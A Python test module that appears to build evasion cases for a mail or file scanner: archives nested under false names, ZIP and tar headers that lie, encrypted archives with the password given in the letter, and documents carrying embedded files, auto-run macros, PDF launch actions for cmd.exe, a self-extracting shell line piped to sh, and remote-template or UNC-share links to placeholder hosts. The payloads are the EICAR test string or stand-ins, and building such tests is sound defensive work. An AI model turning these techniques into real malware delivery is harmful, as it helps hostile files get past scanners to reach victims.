"""Evasion by files: containers in each other under wrong names, archives that lie, documents that carry or fetch."""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

import msoffcrypto
import pikepdf
import zstandard

from tests.support.containers import ZipFile, cms, compound, end, ole1, package, pdf, tnef, zip_of
from tests.support.eicar import EICAR
from tests.support.evasive.craft import (
    PAYLOAD,
    Case,
    Cases,
    archived,
    attached,
    b64,
    letter,
    mail,
    multipart,
    nest,
    part,
    zip_locked,
    zipped,
)

RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
NOISE = b"".join(struct.pack("<I", zlib.crc32(struct.pack("<I", number))) for number in range(4000))
LNK = b"\x4c\0\0\0\x01\x14\x02\0" + bytes(8) + b"\xc0\0\0\0\0\0\0\x46" + bytes(60) + "cmd.exe /c start".encode("utf-16-le")


def docx(*files: tuple[str, bytes], folder: str = "word") -> bytes:
    return zipped(("[Content_Types].xml", TYPES), (f"{folder}/document.xml", b'<?xml version="1.0"?><w:document/>'), *files)


def relation(kind: bytes, target: bytes) -> bytes:
    link = b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    return RELATIONS % (link % (kind, target))


def rtf(data: bytes, name: bytes = b"report.dat") -> bytes:
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + ole1(b"Package", package(name, data)).hex().encode() + b"}}}"


def onenote(data: bytes) -> bytes:
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    return head + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + len(data).to_bytes(8, "little") + bytes(12) + data


def msg(data: bytes, name: str) -> bytes:
    return compound({"__properties_version1.0": bytes(32), "__attach_version1.0_#00000000/__substg1.0_37010102": data,
                     "__attach_version1.0_#00000000/__substg1.0_3707001F": name.encode("utf-16-le")})  # fmt: skip


def vba(source: bytes) -> bytes:
    """A VBA project with one module, compressed as literals (MS-OVBA 2.4.1)."""
    packed = b"\x01"
    for at in range(0, len(source), 3600):
        tokens = b"".join(b"\0" + source[at + n : at + n + 8] for n in range(0, len(source[at : at + 3600]), 8))
        packed += struct.pack("<H", len(tokens) - 1 | 0xB000) + tokens
    return compound({"VBA/Module1": packed, "VBA/_VBA_PROJECT": bytes(16)})


def pax(name: str, header: str, data: bytes) -> bytes:
    """A tar whose block says one name and whose pax header says another."""
    info = tarfile.TarInfo(header)
    info.size = len(data)
    info.pax_headers = {"path": name}
    return info.tobuf(tarfile.PAX_FORMAT) + data.ljust(-(-len(data) // 512) * 512, b"\0") + bytes(1024)


def tarred(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def secret_docx(plain: bytes, password: str) -> bytes:
    out = io.BytesIO()
    msoffcrypto.OfficeFile(io.BytesIO(plain)).encrypt(password, out)
    return out.getvalue()


def secret_pdf(password: str, *, launch: bool = False, file: bytes = b"") -> bytes:
    """An encrypted PDF whose objects stand in object streams."""
    document = pikepdf.new()
    document.add_blank_page()
    if launch:
        document.Root.OpenAction = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    if file:
        document.attachments["report.dat"] = file
    out = io.BytesIO()
    document.save(
        out,
        encryption=pikepdf.Encryption(owner="o", user=password, R=6),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        static_id=True,
    )
    return out.getvalue()


def containers() -> Cases:
    """Containers in containers, under names and types that are not theirs."""
    cases = Cases()
    add = cases.add
    add("gzip in TNEF in ZIP", attached(zipped(("winmail.dat", tnef(b"a.dat", gzip.compress(EICAR)))), "a.zip"))
    add("7z called rar", attached(archived("7zip", ("data.bin", EICAR)), "report.rar", b"Content-Type: application/vnd.rar"))
    add("ISO in a fixed VHD", attached(archived("iso9660", ("data.bin", PAYLOAD)) + b"conectix" + bytes(504), "disk.vhd"))
    add("ISO in gzip called img", attached(gzip.compress(archived("iso9660", ("data.bin", PAYLOAD))), "disk.img"))
    add("xz in bzip2 in zstd in gzip", attached(gzip.compress(zstandard.compress(bz2.compress(lzma.compress(PAYLOAD)))), "report.log"))
    add(
        "deb: tar.xz in ar",
        attached(archived("ar_bsd", ("debian-binary", b"2.0\n"), ("data.tar.xz", lzma.compress(tarred(("data.bin", EICAR))))), "tool.deb"),
    )
    add("cpio in LZMA", attached(lzma.compress(archived("cpio", ("data.bin", PAYLOAD)), format=lzma.FORMAT_ALONE), "report.dat"))
    add(
        "letter in 7z in tar.gz",
        attached(gzip.compress(tarred(("a/b.7z", archived("7zip", ("letter.eml", attached(PAYLOAD)))))), "mail.tgz"),
    )
    add("picture with a 7z behind it", attached(PNG + archived("7zip", ("data.bin", EICAR)), "photo.png", b"Content-Type: image/png"))
    add("ZIP behind a gzip of nothing much", attached(gzip.compress(b"nothing much\n") + PAYLOAD, "notes.gz"))
    add("gzip behind a ZIP of nothing much", attached(zipped(("a.txt", b"nothing much\n")) + gzip.compress(EICAR), "notes.zip"))
    add("gzip behind a shell script", attached(b"#!/bin/sh\ntail -n +3 $0 | gzip -d | sh\nexit\n" + gzip.compress(EICAR), "setup.run"))
    add(
        "ZIP in ZIP, stored, inner directory wiped",
        attached(
            zip_of(ZipFile.of(b"inner.zip", PAYLOAD.replace(b"PK\x05\x06", b"PK\0\0").replace(b"PK\x01\x02", b"PK\0\0"), method=0)), "a.zip"
        ),
    )
    add("two ZIPs and a tar in a row", attached(zipped(("a.txt", b"one")) + PAYLOAD + tarred(("b.txt", b"two")), "a.zip"))
    add("tar behind a ZIP", attached(zipped(("a.txt", b"one")).ljust(512, b"\0") + tarred(("data.bin", gzip.compress(EICAR))), "a.tar"))
    add("30 ZIPs in each other", attached(nest(28, PAYLOAD, lambda data: zipped(("a.zip", data))), "a.zip"))
    add("40 ZIPs in each other", attached(nest(40, PAYLOAD, lambda data: zipped(("a.zip", data))), "a.zip"), seen=False)
    add("gzip without its trailer in uuencode in ZIP", attached(zipped(("a.uu", _uu(gzip.compress(EICAR)[:-8]))), "a.zip"))
    add(
        "zlib stream alone",
        attached(b"ActiveMime".ljust(50, b"\0") + zlib.compress(EICAR), "editdata.mso", b"Content-Type: application/x-mso"),
    )
    return cases


def _uu(data: bytes) -> bytes:
    return b"begin 644 a.gz\n" + b"".join(binascii.b2a_uu(data[at : at + 45]) for at in range(0, len(data), 45)) + b"`\nend\n"


def archives() -> Cases:
    """Archives whose records lie."""
    cases = Cases()
    add = cases.add
    honest = ZipFile.of(b"data.bin", EICAR)
    huge = struct.pack("<HHQQ", 1, 16, 5, 5)
    add("ZIP64 sizes that lie", attached(zip_of(honest.but(size=0xFFFFFFFF, packed_size=0xFFFFFFFF, extra=huge)), "a.zip"))
    add(
        "two ZIP64 fields that differ",
        attached(
            zip_of(
                honest.but(
                    size=0xFFFFFFFF, packed_size=0xFFFFFFFF, extra=struct.pack("<HHQQ", 1, 16, len(EICAR), len(honest.packed)) + huge
                )
            ),
            "a.zip",
        ),
    )
    add(
        "entry behind a comment that is a ZIP, both encrypted flags off by one header",
        attached(zip_of(ZipFile.of(b"a.txt", b"x"), (honest.but(flags=1), honest), comment=PAYLOAD), "a.zip"),
    )
    add(
        "name in the Unicode path field only",
        attached(
            zip_of(honest.but(name=b"a.txt", extra=struct.pack("<HHBI", 0x7075, 5 + 10, 1, zlib.crc32(b"a.txt")) + b"report.exe")), "a.zip"
        ),
        seen=False,
    )
    add("folder by its slash, with content", attached(zip_of(honest.but(name=b"docs/")), "a.zip"))
    add("method says stored, data is deflated, in both headers", attached(zip_of(honest.but(method=0)), "a.zip"))
    add("method unknown, data is deflated", attached(zip_of(honest.but(method=77)), "a.zip"))
    add("directory offset points into the comment", attached(zip_of(honest)[:-22] + end(1, 46, 7, b"PK\x01\x02"), "a.zip"))
    add("tar: pax name hides a program", attached(pax("setup.exe", "notes.txt", b"MZ harmless"), "a.tar"), seen=False)
    add("tar: block name hides a program", attached(pax("notes.txt", "setup.scr", b"harmless"), "a.tar"), seen=False)
    add("tar: pax name of 3,000 letters", attached(pax("d/" * 1500 + "data.bin", "notes.txt", gzip.compress(EICAR)), "a.tar"))
    add("tar: file called a folder", attached(tarred(("data", gzip.compress(EICAR))).replace(b"ustar  \0", b"ustar  \0"), "a.tar"))
    for name, subject, text in (
        (
            "in the subject, in German",
            b"=?utf-8?Q?Rechnung_-_Kennwort_lautet_Fr=C3=BChling24!?=",
            "Guten Tag, anbei die Datei.\r\n",
        ),
        ("in French", b"facture", "Bonjour,\r\nle mot de passe de l'archive est Fr\u00fchling24!\r\n"),
        ("split over two lines", b"invoice", "Your password:\r\n\r\n    Fr\u00fchling24!\r\n\r\nRegards\r\n"),
        ("before the word", b"invoice", "Please use Fr\u00fchling24! as the password.\r\n"),
    ):
        add(
            f"encrypted ZIP, password {name}",
            attached(zip_locked(b"data.bin", EICAR, "Fr\u00fchling24!".encode()), "a.zip", text=letter(text.encode()), subject=subject),
        )
    add(
        "encrypted ZIP, password in Latin-1",
        attached(
            zip_locked(b"data.bin", EICAR, "Fr\u00fchling24!".encode("latin-1")),
            "a.zip",
            text=letter("Passwort: Fr\u00fchling24!\r\n".encode()),
        ),
    )
    add(
        "encrypted ZIP, password in a text file beside it",
        mail(
            b"Content-Type: multipart/mixed; boundary=frontier",
            body=multipart(
                letter(b"See the note.\r\n"),
                part(
                    b64(b"pw = Zork-77\r\n"), b"Content-Type: application/octet-stream; name=note.txt", b"Content-Transfer-Encoding: base64"
                ),
                part(
                    b64(zip_locked(b"data.bin", EICAR, b"Zork-77")),
                    b"Content-Type: application/zip; name=a.zip",
                    b"Content-Transfer-Encoding: base64",
                ),
            ),
        ),
    )
    add(
        "encrypted ZIP, password in a text file in the ZIP round it",
        attached(zipped(("password.txt", b"Zork-77"), ("a.zip", zip_locked(b"data.bin", EICAR, b"Zork-77"))), "a.zip"),
    )
    add(
        "encrypted ZIP in a forwarded letter",
        mail(
            b"Content-Type: message/rfc822",
            body=attached(zip_locked(b"data.bin", EICAR, b"Zork-77"), "a.zip", text=letter(b"Password: Zork-77\r\n")),
        ),
    )
    add("encrypted ZIP, password nowhere", attached(zip_locked(b"data.bin", EICAR, b"\x01\x02never"), "a.zip"), seen=False)
    return cases


def documents() -> Cases:
    """Documents that carry files, fetch code or start programs."""
    cases = Cases()
    add = cases.add
    add("OneNote with a shortcut", attached(onenote(LNK), "notes.one"), seen=False)
    add("OneNote with a ZIP in a ZIP", attached(zipped(("notes.one", onenote(PAYLOAD))), "notes.zip"))
    add(
        "DOCX with a remote template",
        attached(docx(("word/_rels/settings.xml.rels", relation(b"attachedTemplate", b"http://example.net/a.dotm"))), "report.docx"),
        seen=False,
    )
    add(
        "DOCX with a remote template in single quotes and entities",
        attached(
            docx(
                (
                    "word/_rels/settings.xml.rels",
                    relation(b"attachedTemplate", b"http://example.net/a.dotm").replace(b'"', b"'").replace(b"External", b"&#69;xternal"),
                )
            ),
            "report.docx",
        ),
        seen=False,
    )
    add(
        "DOCX with a remote template, its relations in UTF-16",
        attached(
            docx(("word/_rels/settings.xml.rels", relation(b"attachedTemplate", b"http://example.net/a.dotm").decode().encode("utf-16"))),
            "report.docx",
        ),
        seen=False,
    )
    add(
        "DOCX with a remote frame",
        attached(docx(("word/_rels/webSettings.xml.rels", relation(b"frame", b"http://example.net/a.html"))), "report.docx"),
        seen=False,
    )
    add("DOCX with an HTML chunk", attached(docx(("word/afchunk.mht", attached(PAYLOAD))), "report.docx"))
    add(
        "macros in an XLSM called XLSX",
        attached(
            docx(
                ("xl/vbaProject.bin", vba(b'Attribute VB_Name = "M"\r\nSub Auto_Open()\r\n x = "' + EICAR + b'"\r\nEnd Sub\r\n')),
                folder="xl",
            ),
            "report.xlsx",
        ),
    )
    add(
        "macros under another part's name",
        attached(
            docx(("word/media/image1.png", vba(b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\n x = "' + EICAR + b'"\r\nEnd Sub\r\n'))),
            "report.docx",
        ),
    )
    add("RTF in RTF in RTF", attached(nest(2, rtf(PAYLOAD), lambda data: rtf(data, b"inner.rtf")), "report.doc"))
    add(
        "RTF whose object is in capitals and split by controls",
        attached(rtf(PAYLOAD).replace(b"504b", b"50{\\*\\x}4\\par B"), "report.doc"),
    )
    add(
        "flat XML document with binary data",
        attached(
            b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:binData w:name="editdata.mso">'
            + base64.b64encode(PAYLOAD)
            + b"</w:binData></w:wordDocument>",
            "report.xml",
            b"Content-Type: text/xml",
        ),
    )
    add(
        "web archive called doc with a compressed object",
        attached(
            mail(
                b'Content-Type: multipart/related; boundary="x"',
                body=multipart(
                    part(b"<html></html>", b"Content-Type: text/html"),
                    part(
                        b64(b"ActiveMime".ljust(50, b"\0") + zlib.compress(PAYLOAD)),
                        b"Content-Type: application/x-mso",
                        b"Content-Transfer-Encoding: base64",
                    ),
                    boundary=b"x",
                ),
            ),
            "report.doc",
            b"Content-Type: application/msword",
        ),
    )
    add("Outlook message in Outlook message", attached(msg(msg(PAYLOAD, "a.zip"), "inner.msg"), "mail.msg"))
    add("PDF, empty password, object streams, launch", attached(secret_pdf("", launch=True), "report.pdf"), seen=False)
    add("PDF, empty password, file inside", attached(secret_pdf("", file=EICAR), "report.pdf"))
    add(
        "PDF, password in the letter, file inside",
        attached(secret_pdf("Zork-77", file=EICAR), "report.pdf", text=letter(b"The PDF opens with Zork-77.\r\n")),
    )
    add(
        "DOCX, password in the subject, file inside",
        attached(
            secret_docx(docx(("word/embeddings/a.bin", EICAR), ("word/media/noise.bin", NOISE)), "Zork-77"),
            "report.docx",
            subject=b"invoice, password Zork-77",
        ),
    )
    text = base64.a85encode(zlib.compress(PAYLOAD)) + b"~>"
    add(
        "PDF: file in Flate in base 85 in hexadecimal",
        attached(pdf(text.hex().encode() + b">", b"/Type/EmbeddedFile/Filter[/ASCIIHexDecode/ASCII85Decode/FlateDecode]"), "report.pdf"),
    )
    add("PDF: launch with escaped names", attached(pdf(b"", b"/X 1", b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"), "report.pdf"), seen=False)
    add(
        "PDF in a TNEF in a signed message",
        attached(
            cms("signed", attached(tnef(b"a.pdf", pdf(zlib.compress(PAYLOAD), b"/Type/EmbeddedFile/Filter/FlateDecode"))), pieces=9),
            "smime.p7m",
            b"Content-Type: application/pkcs7-mime",
        ),
    )
    add(
        "compressed message in signed message",
        attached(
            cms(
                "signed",
                part(
                    b64(cms("compressed", attached(PAYLOAD))),
                    b"Content-Type: application/pkcs7-mime; smime-type=compressed-data",
                    b"Content-Transfer-Encoding: base64",
                ),
            ),
            "smime.p7m",
            b"Content-Type: application/pkcs7-mime",
        ),
    )
    add(
        "calendar with a folded binary attachment",
        attached(
            b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=report.zip:"
            + b64(PAYLOAD, 60, b"\r\n ")
            + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
            "invite.ics",
            b"Content-Type: text/calendar",
        ),
    )
    add(
        "card with a folded picture",
        attached(
            b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Pat\r\nPHOTO;ENCODING=b;TYPE=JPEG:" + b64(PAYLOAD, 60, b"\r\n ") + b"\r\nEND:VCARD\r\n",
            "pat.vcf",
            b"Content-Type: text/vcard",
        ),
    )
    add("shortcut called PDF in an ISO", attached(archived("iso9660", ("report.pdf", LNK)), "disk.iso"), seen=False)
    add(
        "search connector",
        attached(
            b'<?xml version="1.0"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><url>\\\\192.0.2.1\\x</url></searchConnectorDescription>',
            "a.xml",
        ),
        seen=False,
    )
    add(
        "internet shortcut to a file share in a ZIP",
        attached(zipped(("report.txt", b"[InternetShortcut]\r\nURL=file://192.0.2.1/x/a.js\r\n")), "a.zip"),
        seen=False,
    )
    add(
        "Java archive called PNG",
        attached(
            zipped(("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")),
            "photo.png",
            b"Content-Type: image/png",
        ),
        seen=False,
    )
    add("hexadecimal dump of a ZIP", attached(PAYLOAD.hex().encode(), "key.txt", b"Content-Type: text/plain"))
    add(
        "hexadecimal dump in lines of pairs",
        attached(
            b"\r\n".join(PAYLOAD[at : at + 16].hex(" ").encode() for at in range(0, len(PAYLOAD), 16)),
            "key.txt",
            b"Content-Type: text/plain",
        ),
    )
    return cases


def cases() -> list[Case]:
    return [*containers(), *archives(), *documents()]
